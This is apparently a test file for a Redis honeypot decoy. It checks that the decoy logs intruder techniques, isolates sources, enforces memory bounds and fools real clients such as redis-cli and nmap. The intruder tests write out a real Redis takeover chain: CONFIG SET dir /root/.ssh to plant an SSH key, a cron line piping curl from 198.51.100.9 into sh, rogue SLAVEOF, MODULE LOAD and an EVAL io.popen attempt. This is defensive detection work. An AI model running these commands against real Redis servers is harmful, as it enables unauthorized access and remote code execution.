// The Redis decoy over real sockets and with real clients: evidence, takeovers, isolation of sources, bounds.

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { capturedBytes } from "../../src/contract/captured.ts";
import { createPersona } from "../../src/decoys/personas/create.ts";
import { redis } from "../../src/decoys/redis/index.ts";
import type { RunningDecoy } from "../support/decoy-host.ts";
import { startDecoy } from "../support/decoy-host.ts";
import { RedisClient } from "../support/redis-client.ts";

let decoy: RunningDecoy;

beforeAll(async () => {
  decoy = await startDecoy(redis);
});

afterAll(async () => {
  await decoy.close();
});

async function runTool(command: readonly string[], input = ""): Promise<string> {
  const tool = Bun.spawn([...command], { stdin: Buffer.from(input), stdout: "pipe", stderr: "pipe" });
  const [out, errors] = await Promise.all([
    new Response(tool.stdout).text(),
    new Response(tool.stderr).text(),
  ]);
  await tool.exited;
  return out + errors;
}

const bulkOf = (text: string): string => `$${text.length}\r\n${text}\r\n`;

describe("an intruder", () => {
  test("plants an SSH key and a cron job, and every step is told", async () => {
    await using host = await startDecoy(redis);
    using client = await RedisClient.connect(host.port);
    const key = `\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ${"C".repeat(340)} root@x\n\n`;
    expect(await client.call("SET", "crackit", key)).toBe("+OK\r\n");
    expect(await client.call("CONFIG", "SET", "dir", "/root/.ssh")).toBe("+OK\r\n");
    expect(await client.call("CONFIG", "SET", "dbfilename", "authorized_keys")).toBe("+OK\r\n");
    expect(await client.call("CONFIG", "GET", "dbfilename")).toBe(
      `*2\r\n${bulkOf("dbfilename")}${bulkOf("authorized_keys")}`,
    );
    expect(await client.call("SAVE")).toBe("+OK\r\n");
    expect(await client.call("SET", "x", "\n*/1 * * * * curl -s http://198.51.100.9/a | sh\n")).toBe(
      "+OK\r\n",
    );
    expect(await client.call("BGSAVE")).toBe("+Background saving started\r\n");
    const told = host.of("takeover.attempted").map((record) => record.data.technique);
    expect(told).toEqual([
      "redis-config-dir",
      "redis-config-dbfilename",
      "redis-save-ssh-key",
      "redis-save-ssh-key",
      "redis-save-cron",
    ]);
    const [, , first] = host.of("takeover.attempted");
    expect(first?.data.detail.val).toContain("ssh-rsa AAAAB3");
    expect(host.of("command.executed")[1]?.data.command.val).toBe("CONFIG SET dir /root/.ssh");
    expect(host.broken).toEqual([]);
  });

  test("names a master, loads a module, runs a script, migrates", async () => {
    await using host = await startDecoy(redis);
    using client = await RedisClient.connect(host.port);
    expect(await client.call("SLAVEOF", "198.51.100.7", "21000")).toBe("+OK\r\n");
    expect(await client.call("ROLE")).toBe(
      `*5\r\n${bulkOf("slave")}${bulkOf("198.51.100.7")}:21000\r\n${bulkOf("connecting")}:-1\r\n`,
    );
    expect(await client.call("INFO", "replication")).toContain("master_link_status:down\r\n");
    expect(await client.call("SET", "a", "b")).toStartWith("-READONLY ");
    expect(await client.call("SLAVEOF", "NO", "ONE")).toBe("+OK\r\n");
    expect(await client.call("MODULE", "LOAD", "/tmp/exp.so")).toBe(
      "-ERR Error loading the extension. Please check the server logs.\r\n",
    );
    expect(await client.call("EVAL", "return io.popen('id')", "0")).toContain(
      "nonexistent global variable 'io'",
    );
    await client.call("SET", "a", "b");
    expect(await client.call("MIGRATE", "198.51.100.7", "6379", "a", "0", "10")).toStartWith("-IOERR ");
    expect(host.of("takeover.attempted").map((record) => record.data.technique)).toEqual([
      "redis-slaveof",
      "redis-module-load",
      "redis-eval",
      "redis-migrate",
    ]);
  });

  test("leaves large payloads as blobs", async () => {
    await using host = await startDecoy(redis);
    using client = await RedisClient.connect(host.port);
    const payload = `\x7fELF${"\xfe\x00".repeat(6000)}`;
    expect(await client.call("SET", "mod", payload)).toBe("+OK\r\n");
    expect(await client.call("GET", "mod")).toBe(bulkOf(payload));
    const { data } = await host.waitFor("file.uploaded");
    expect(data).toMatchObject({ via: "redis", size: 12_004, stored: 12_004 });
    expect(Buffer.from(host.blobs.get(data.sha256) ?? []).toString("latin1")).toBe(payload);
  });

  test("is asked for the password when the persona has one", async () => {
    const secret = { key: new Uint8Array(32).fill(9), madeAt: Date.parse("2026-06-01T00:00:00Z") };
    const persona = createPersona(secret, "linux-server", {
      logins: [{ username: "default", password: "s3cret pass" }],
    });
    await using host = await startDecoy(redis, { persona });
    using client = await RedisClient.connect(host.port);
    expect(await client.call("GET", "a")).toBe("-NOAUTH Authentication required.\r\n");
    expect(await client.call("FOO")).toStartWith("-ERR unknown command");
    expect(await client.call("AUTH", "wrong")).toStartWith("-WRONGPASS ");
    expect(await client.call("AUTH", "root", "s3cret pass")).toStartWith("-WRONGPASS ");
    expect(await client.call("HELLO", "3")).toStartWith("-NOAUTH HELLO must be called");
    expect(await client.call("HELLO", "3", "AUTH", "default", "s3cret pass")).toStartWith("%7\r\n");
    const attempts = host
      .of("auth.attempted")
      .map(({ data }) => [data.username.val, data.secret?.val, data.accepted]);
    expect(attempts).toEqual([
      ["default", "wrong", false],
      ["root", "s3cret pass", false],
      ["default", "s3cret pass", true],
    ]);
    using strict = await RedisClient.connect(host.port);
    strict.send("*1\r\n$20000\r\n");
    expect(await strict.rest()).toBe("-ERR Protocol error: unauthenticated bulk length\r\n");
    expect(host.of("protocol.violated")).toHaveLength(1);
  });
});

describe("sources", () => {
  test("never see what another planted, and find their own again", async () => {
    await using host = await startDecoy(redis);
    using first = await RedisClient.connect(host.port, "127.0.0.1");
    using other = await RedisClient.connect(host.port, "127.0.0.2");
    const before = await other.call("DBSIZE");
    await first.call("SET", "mine", "1");
    await first.call("CONFIG", "SET", "dir", "/tmp");
    await first.call("SUBSCRIBE", "ch");
    expect(await other.call("GET", "mine")).toBe("$-1\r\n");
    expect(await other.call("DBSIZE")).toBe(before);
    expect(await other.call("CONFIG", "GET", "dir")).toContain("/var/lib/redis");
    expect(await other.call("PUBLISH", "ch", "x")).toBe(":0\r\n");
    expect(await other.call("CLIENT", "LIST")).not.toContain(" addr=127.0.0.1:");
    using again = await RedisClient.connect(host.port, "127.0.0.1");
    expect(await again.call("GET", "mine")).toBe(bulkOf("1"));
    expect(await again.call("PUBLISH", "ch", "hello")).toBe(":1\r\n");
    expect(await first.reply()).toBe(`*3\r\n${bulkOf("message")}${bulkOf("ch")}${bulkOf("hello")}`);
    const loaded = await again.call("DBSIZE");
    await other.call("FLUSHALL");
    expect(await again.call("DBSIZE")).toBe(loaded);
  });

  test("find the same bait after a restart", async () => {
    await using again = await startDecoy(redis);
    using a = await RedisClient.connect(decoy.port, "127.0.0.3");
    using b = await RedisClient.connect(again.port, "127.0.0.3");
    const keys = await a.call("KEYS", "*");
    expect(keys).not.toBe("*0\r\n");
    expect(await b.call("KEYS", "*")).toBe(keys);
    const runId = /run_id:[0-9a-f]{40}/;
    const [one] = runId.exec(await a.call("INFO", "server")) ?? [];
    const [two] = runId.exec(await b.call("INFO", "server")) ?? [];
    expect(one).toBeDefined();
    expect(one).toBe(two);
  });
});

describe("bounds", () => {
  test("memory ends in OOM and comes back after a flush", async () => {
    await using host = await startDecoy(redis, { limits: { sessionBytes: 64 * 1024 * 1024 } });
    using client = await RedisClient.connect(host.port);
    const chunk = "x".repeat(900_000);
    let refused = "";
    for (let i = 0; i < 20 && !refused.startsWith("-OOM"); i++)
      refused = await client.call("SET", `k${i}`, chunk);
    expect(refused).toBe("-OOM command not allowed when used memory > 'maxmemory'.\r\n");
    expect(await client.call("SETRANGE", "far", "500000000", "x")).toStartWith("-OOM");
    expect(await client.call("FLUSHALL")).toBe("+OK\r\n");
    expect(await client.call("SET", "a", chunk)).toBe("+OK\r\n");
    expect(await client.call("SET", "huge", "y".repeat(5 * 1024 * 1024))).toStartWith("-OOM");
  }, 20_000);

  test("a reply that would amplify closes the connection", async () => {
    await using host = await startDecoy(redis);
    using client = await RedisClient.connect(host.port);
    await client.call("SET", "k", "x".repeat(1_000_000));
    expect(await client.call("MGET", ...Array.from({ length: 100 }, () => "k"))).toBe("<closed>");
    expect(host.broken).toEqual([]);
  });

  test("blocking ends with the element, the time, or the conversation", async () => {
    await using host = await startDecoy(redis);
    using waiting = await RedisClient.connect(host.port);
    using pushing = await RedisClient.connect(host.port);
    const popped = waiting.call("BLPOP", "jobs", "0");
    await host.waitFor("command.executed", (record) => record.data.command.val.startsWith("BLPOP"));
    await pushing.call("RPUSH", "jobs", "one");
    expect(await popped).toBe(`*2\r\n${bulkOf("jobs")}${bulkOf("one")}`);
    expect(await waiting.call("BRPOP", "jobs", "0.01")).toBe("*-1\r\n");
    const left = waiting.call("BLPOP", "jobs", "0");
    await host.waitFor("command.executed", (record) => record.data.command.val === "BLPOP jobs 0");
    await host.close();
    expect(await left).toBe("<closed>");
  });

  test("what a connection holds besides keys is bounded too", async () => {
    await using host = await startDecoy(redis);
    using client = await RedisClient.connect(host.port);
    await client.call("MULTI");
    expect(await client.call("SET", "a", "x".repeat(1_100_000))).toStartWith("-OOM");
    expect(await client.call("EXEC")).toStartWith("-EXECABORT");
    expect(await client.call("WATCH", "k".repeat(100_000))).toStartWith("-OOM");
    expect(await client.call("CLIENT", "SETNAME", "n".repeat(5000))).toStartWith("-ERR Client names");
    expect(await client.call("SUBSCRIBE", "c".repeat(5000))).toStartWith("-OOM");
  });

  test("SHUTDOWN closes the connection alone", async () => {
    using client = await RedisClient.connect(decoy.port);
    expect(await client.call("SHUTDOWN", "NOSAVE")).toBe("<closed>");
    using next = await RedisClient.connect(decoy.port);
    expect(await next.call("PING")).toBe("+PONG\r\n");
  });
});

describe("real clients", () => {
  test.skipIf(!Bun.which("redis-cli"))(
    "redis-cli works, piped and in a dump",
    async () => {
      const cli = ["redis-cli", "-p", `${decoy.port}`];
      expect(await runTool(cli, "SET cli 1\nINCR cli\nHGETALL nokey\nINFO server\n")).toContain(
        `redis_version:${decoy.persona.products["redis"]?.version}`,
      );
      expect(await runTool([...cli, "-3", "CLIENT", "LIST"])).toContain(
        "cmd=client|list user=default redir=-1 resp=3",
      );
      const dump = await runTool([...cli, "--rdb", "-"]);
      expect(dump).toContain("REDIS0010");
      expect(dump).toContain(decoy.persona.domain);
      expect(decoy.of("command.executed").some(({ data }) => data.command.val === "INCR cli")).toBe(true);
      await runTool([...cli, "CLIENT", "SETNAME", "lib-x"]);
      const named = await decoy.waitFor("client.identified");
      expect(Buffer.from(capturedBytes(named.data.software)).toString()).toBe("lib-x");
      expect(decoy.broken).toEqual([]);
    },
    20_000,
  );

  test.skipIf(!Bun.which("nmap"))(
    "nmap names it",
    async () => {
      const nmap = ["nmap", "-Pn", "-n", "-p", `${decoy.port}`];
      expect(await runTool([...nmap, "-sV", "127.0.0.1"])).toContain("Redis key-value store");
      const script = await runTool([...nmap, "--script", "+redis-info", "127.0.0.1"]);
      expect(script).toContain("Version: 7.0.15");
      expect(script).toContain("Role: master");
    },
    40_000,
  );
});
